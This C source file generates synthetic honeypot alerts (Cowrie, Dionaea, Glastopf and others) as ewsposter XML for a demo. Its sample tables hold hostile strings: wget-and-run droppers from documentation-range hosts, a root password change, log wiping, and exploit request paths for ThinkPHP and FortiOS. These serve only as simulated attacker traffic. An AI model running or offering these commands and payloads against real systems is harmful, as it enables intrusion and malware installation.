/* demo_gen.c: the demo's sensors, attacker pool and per-honeypot alert details, written as ewsposter XML. */
#include "demo_gen.h"

#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <curl/curl.h>
#include <openssl/evp.h>

#include "timeutil.h"
#include "xml_writer.h"

#define LEN(a) (sizeof(a) / sizeof((a)[0]))
#define FIXED_SEED 0x5EBA

typedef void (*detail_fn)(struct demo_gen *g, int port, struct buf *out);

struct honeypot {
    const char *name;     /* Analyzer id prefix: spec 10.1 classifies it */
    int weight;           /* share of the traffic, percent */
    const char *protocol; /* the Source protocol attribute ewsposter sends */
    int ports[10];        /* target ports, 0-terminated; none: any high port */
    detail_fn details;    /* Request and AdditionalData children */
};

static const char *const usernames[] = {"root", "admin", "user", "test", "ubuntu", "pi", "oracle", "support",
                                        "guest", "postgres", "ftpuser", "git", "administrator", "sa"};
static const char *const passwords[] = {"123456", "password", "admin", "root", "12345", "1234", "qwerty",
                                        "raspberry", "admin123", "P@ssw0rd", "111111", "toor", "changeme", "abc123"};
static const char *const commands[] = {
    "uname -a", "cat /proc/cpuinfo | grep name | wc -l", "free -m", "ls -lh $(which ls)", "crontab -l", "w",
    "cd /tmp || cd /var/run || cd /mnt; wget http://203.0.113.7/bins.sh; chmod 777 bins.sh; sh bins.sh",
    "enable\nsystem\nshell\nsh", "cat /proc/mounts; /bin/busybox ECCHI",
    "echo \"root:x7Kq2pLm\" | chpasswd | bash", "nproc", "lscpu | grep Model", "ps -ef | grep '[Mm]iner'",
    "rm -rf /tmp/* /var/tmp/*; history -c",
};
static const char *const urls[] = {
    "/", "/wp-login.php", "/xmlrpc.php", "/.env", "/phpmyadmin/index.php", "/admin/config.php",
    "/cgi-bin/luci/;stok=/locale", "/HNAP1/", "/boaform/admin/formLogin", "/solr/admin/info/system",
    "/manager/html", "/actuator/health", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.23/jaws;sh+/tmp/jaws", "/.git/config", "/server-status",
    "/owa/auth/logon.aspx", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
};
static const char *const es_urls[] = {"/", "/_cat/indices", "/_nodes", "/_search?q=*", "/_cluster/health"};
static const char *const cves[] = {"CVE-2017-0144", "CVE-2021-44228", "CVE-2018-10562", "CVE-2017-17215",
                                   "CVE-2020-0796", "CVE-2014-6271", "CVE-2019-0708", "CVE-2022-26134"};
static const char *const conpot_events[] = {"NEW_CONNECTION", "CONNECTION_LOST"};
static const char *const conpot_types[] = {"modbus", "s7comm", "snmp", "bacnet", "ipmi", "kamstrup_protocol"};
static const char *const ssh_versions[] = {"SSH-2.0-Go", "SSH-2.0-libssh2_1.9.0", "SSH-2.0-OpenSSH_7.4",
                                           "SSH-2.0-PUTTY", "SSH-2.0-libssh-0.6.0"};
static const struct {
    int port;
    const char *protocol;
} heralding_protocols[] = {{21, "ftp"},     {22, "ssh"},        {110, "pop3"}, {143, "imap"},
                           {3389, "rdp"},   {5432, "postgresql"}, {5900, "vnc"}, {1080, "socks5"}};

/* The zones the sensors' clocks report in (minutes east of UTC). */
static const int sensor_zones[DEMO_SENSORS] = {60, 120, 0, 60, -300, 540, 330, 120, -180, 60};

/* First octets of public unicast space only: nothing private, reserved, CGNAT or multicast can come out. */
static const unsigned char public_octets[] = {
    1,   2,   5,   14,  23,  27,  31,  36,  37,  39,  41,  42,  43,  45,  46,  49,  58,  59,  60,  61,  62,
    64,  66,  67,  68,  69,  70,  71,  72,  73,  74,  75,  76,  77,  78,  79,  80,  81,  82,  83,  84,  85,
    86,  87,  88,  89,  90,  91,  92,  93,  94,  95,  101, 103, 104, 106, 109, 110, 111, 112, 113, 114, 115,
    116, 117, 118, 119, 120, 121, 122, 123, 124, 125, 138, 139, 141, 142, 144, 146, 147, 148, 149, 150, 151,
    152, 154, 156, 157, 159, 160, 161, 162, 163, 164, 165, 167, 168, 170, 171, 173, 174, 175, 176, 177, 178,
    179, 180, 181, 182, 183, 185, 186, 187, 188, 189, 190, 191, 193, 194, 195, 196, 197, 200, 201, 202, 206,
    207, 208, 209, 210, 211, 212, 213, 216, 217, 218, 219, 220, 221, 222, 223,
};

static long pick(struct demo_gen *g, long n)
{
    return nrand48(g->rng) % n;
}

#define PICK(g, table) (table)[pick(g, (long)LEN(table))]

double demo_random(struct demo_gen *g)
{
    return erand48(g->rng);
}

static void public_address(struct demo_gen *g, char out[16])
{
    unsigned char first = PICK(g, public_octets), second = (unsigned char)pick(g, 256),
                  third = (unsigned char)pick(g, 256), host = (unsigned char)(1 + pick(g, 254));

    snprintf(out, 16, "%u.%u.%u.%u", first, second, third, host);
}

void demo_gen_init(struct demo_gen *g, unsigned seed)
{
    memset(g, 0, sizeof *g);
    g->rng[0] = FIXED_SEED;
    for (size_t i = 0; i < DEMO_POOL; i++)
        public_address(g, g->pool[i]);
    for (int i = 0; i < DEMO_SENSORS; i++) {
        struct demo_sensor *s = &g->sensors[i];

        s->community = i < DEMO_SENSORS * 7 / 10;
        s->tz_minutes = sensor_zones[i];
        snprintf(s->host, sizeof s->host, "tpot-%02d", i + 1);
        snprintf(s->suffix, sizeof s->suffix, "%s-%02d", s->community ? "community" : "private", i + 1);
        public_address(g, s->ip);
    }
    g->rng[0] = (unsigned short)seed;
    g->rng[1] = (unsigned short)(seed >> 16);
    g->rng[2] = 0x330E;
}

const struct demo_sensor *demo_gen_sensor(struct demo_gen *g)
{
    return &g->sensors[pick(g, DEMO_SENSORS)];
}

/* A few attackers are very busy, most are seen now and then. */
static const char *attacker(struct demo_gen *g)
{
    return g->pool[(size_t)(DEMO_POOL * pow(demo_random(g), 3.0))];
}

/* <AdditionalData meaning="m">text</AdditionalData>, text XML-escaped. */
static void data(struct buf *out, const char *meaning, const char *text)
{
    buf_printf(out, "<AdditionalData meaning=\"%s\" type=\"string\">", meaning);
    xml_escape(out, text, strlen(text));
    buf_puts(out, "</AdditionalData>");
}

/* As ewsposter sends free text: percent-encoded (libcurl's encoder). */
static void encoded(struct buf *out, const char *element, const char *attribute, const char *value, const char *text)
{
    char *e = curl_easy_escape(NULL, text, (int)strlen(text));

    buf_printf(out, "<%s %s=\"%s\">%s</%s>", element, attribute, value, e ? e : "", element);
    curl_free(e);
}

static void local_stamp(time_t t, int tz_minutes, char out[UTC_STAMP_LEN])
{
    utc_format(t + tz_minutes * 60, out);
}

static void cowrie(struct demo_gen *g, int port, struct buf *out)
{
    bool success = demo_random(g) < 0.12;
    struct buf input;

    (void)port;
    buf_init(&input, 0);
    data(out, "username", PICK(g, usernames));
    data(out, "password", PICK(g, passwords));
    data(out, "login", success ? "Success" : "Fail");
    data(out, "version", PICK(g, ssh_versions));
    for (long i = success ? 1 + pick(g, 4) : 0; i > 0; i--)
        buf_printf(&input, "\n%s", PICK(g, commands));
    if (input.len)
        encoded(out, "AdditionalData", "meaning", "input", input.data);
    buf_free(&input);
}

static void cve_sometimes(struct demo_gen *g, double share, struct buf *out)
{
    if (demo_random(g) < share)
        data(out, "cve_id", PICK(g, cves));
}

static void dionaea(struct demo_gen *g, int port, struct buf *out)
{
    cve_sometimes(g, port == 445 ? 0.3 : 0.02, out);
}

static void honeytrap(struct demo_gen *g, int port, struct buf *out)
{
    (void)port;
    cve_sometimes(g, 0.05, out);
}

/* A web request as glastopf/tanner report it: the URL, and the raw request as base64. */
static void web(struct demo_gen *g, int port, struct buf *out)
{
    const char *url = PICK(g, urls);
    char request[512];
    unsigned char b64[700];
    int n = snprintf(request, sizeof request, "GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0\r\n\r\n", url,
                     "example.com");

    (void)port;
    encoded(out, "Request", "type", "url", url);
    EVP_EncodeBlock(b64, (const unsigned char *)request, n);
    buf_printf(out, "<Request type=\"raw\">%s</Request>", b64);
}

static void heralding(struct demo_gen *g, int port, struct buf *out)
{
    const char *protocol = "ssh";

    for (size_t i = 0; i < LEN(heralding_protocols); i++)
        if (heralding_protocols[i].port == port)
            protocol = heralding_protocols[i].protocol;
    data(out, "username", PICK(g, usernames));
    data(out, "password", PICK(g, passwords));
    data(out, "protocol", protocol);
}

static void conpot(struct demo_gen *g, int port, struct buf *out)
{
    char id[40];

    (void)port;
    snprintf(id, sizeof id, "%08lx-%04lx-4%03lx-a%03lx-%012lx", pick(g, 0x7fffffff), pick(g, 0xffff), pick(g, 0xfff),
             pick(g, 0xfff), pick(g, 0x7fffffff));
    data(out, "conpot_event_type", PICK(g, conpot_events));
    data(out, "conpot_data_type", PICK(g, conpot_types));
    data(out, "conpot_sensor_id", "conpot");
    data(out, "conpot_id", id);
}

static void ciscoasa(struct demo_gen *g, int port, struct buf *out)
{
    (void)g;
    (void)port;
    encoded(out, "AdditionalData", "meaning", "payload", "['A']");
}

static void suricata(struct demo_gen *g, int port, struct buf *out)
{
    (void)port;
    cve_sometimes(g, 1.0, out);
}

static void elasticpot(struct demo_gen *g, int port, struct buf *out)
{
    (void)port;
    encoded(out, "Request", "type", "url", PICK(g, es_urls));
}

static void nothing(struct demo_gen *g, int port, struct buf *out)
{
    (void)g;
    (void)port;
    (void)out;
}

static const struct honeypot honeypots[] = {
    {"cowrie", 30, "tcp", {22, 23, 2222}, cowrie},
    {"dionaea", 16, "accept", {445, 3306, 1433, 21, 135, 80, 1723, 5060, 42, 81}, dionaea},
    {"honeytrap", 14, "tcp", {8080, 8443, 7547, 5555, 37215, 52869, 2323, 8000, 9000}, honeytrap},
    {"glastopf", 6, "tcp", {80}, web},
    {"tanner", 4, "tcp", {80, 8080}, web},
    {"heralding", 8, "tcp", {21, 22, 110, 143, 3389, 5432, 5900, 1080}, heralding},
    {"conpot", 3, "tcp", {102, 502, 161, 47808, 623}, conpot},
    {"ciscoasa", 2, "tcp", {8443}, ciscoasa},
    {"suricata", 4, "tcp", {80, 445, 1900, 8080}, suricata},
    {"elasticpot", 3, "tcp", {9200}, elasticpot},
    {"mailoney", 2, "tcp", {25, 587}, nothing},
    {"rdpy", 3, "tcp", {3389}, nothing},
    {"vnclowpot", 2, "tcp", {5900}, nothing},
    {"medpot", 1, "tcp", {2575}, nothing},
    {"glutton", 2, "tcp", {0}, nothing},
};

static const struct honeypot *honeypot(struct demo_gen *g)
{
    long roll = pick(g, 100);

    for (size_t i = 0; i < LEN(honeypots); i++) {
        roll -= honeypots[i].weight;
        if (roll < 0)
            return &honeypots[i];
    }
    return &honeypots[0];
}

static int port_of(struct demo_gen *g, const struct honeypot *h)
{
    int n = 0;

    while (n < (int)LEN(h->ports) && h->ports[n])
        n++;
    return n ? h->ports[pick(g, n)] : 1024 + (int)pick(g, 64000);
}

static void alert(struct demo_gen *g, const struct demo_sensor *s, time_t t, struct buf *out)
{
    const struct honeypot *h = honeypot(g);
    bool utc = strcmp(h->name, "honeytrap") == 0; /* honeytrap reports UTC (spec 9.4) */
    int port = port_of(g, h), tz = utc ? 0 : s->tz_minutes;
    char stamp[UTC_STAMP_LEN];

    local_stamp(t, tz, stamp);
    buf_printf(out, "<Alert><Analyzer id=\"%s-%s\"/><CreateTime tz=\"%c%02d%02d\">%s</CreateTime>", h->name,
               s->suffix, tz < 0 ? '-' : '+', abs(tz) / 60, abs(tz) % 60, stamp);
    buf_printf(out, "<Source category=\"ipv4\" port=\"%d\" protocol=\"%s\">%s</Source>", 1024 + (int)pick(g, 64000),
               h->protocol, attacker(g));
    buf_printf(out, "<Target category=\"ipv4\" port=\"%d\" protocol=\"%s\">%s</Target>", port, h->protocol, s->ip);
    buf_printf(out, "<Request type=\"description\">%s</Request>", h->name);
    data(out, "hostname", s->host);
    data(out, "externalIP", s->ip);
    data(out, "internalIP", "172.20.0.2");
    h->details(g, port, out);
    buf_puts(out, "</Alert>");
}

void demo_gen_message(struct demo_gen *g, const struct demo_sensor *s, const char *user, const char *token,
                      const time_t *times, size_t n, struct buf *out)
{
    buf_puts(out, "<EWS-SimpleMessage version=\"3.0\"><Authentication><username>");
    xml_escape(out, user, strlen(user));
    buf_puts(out, "</username><token>");
    xml_escape(out, token, strlen(token));
    buf_puts(out, "</token></Authentication>");
    for (size_t i = 0; i < n; i++)
        alert(g, s, times[i], out);
    buf_puts(out, "</EWS-SimpleMessage>");
}
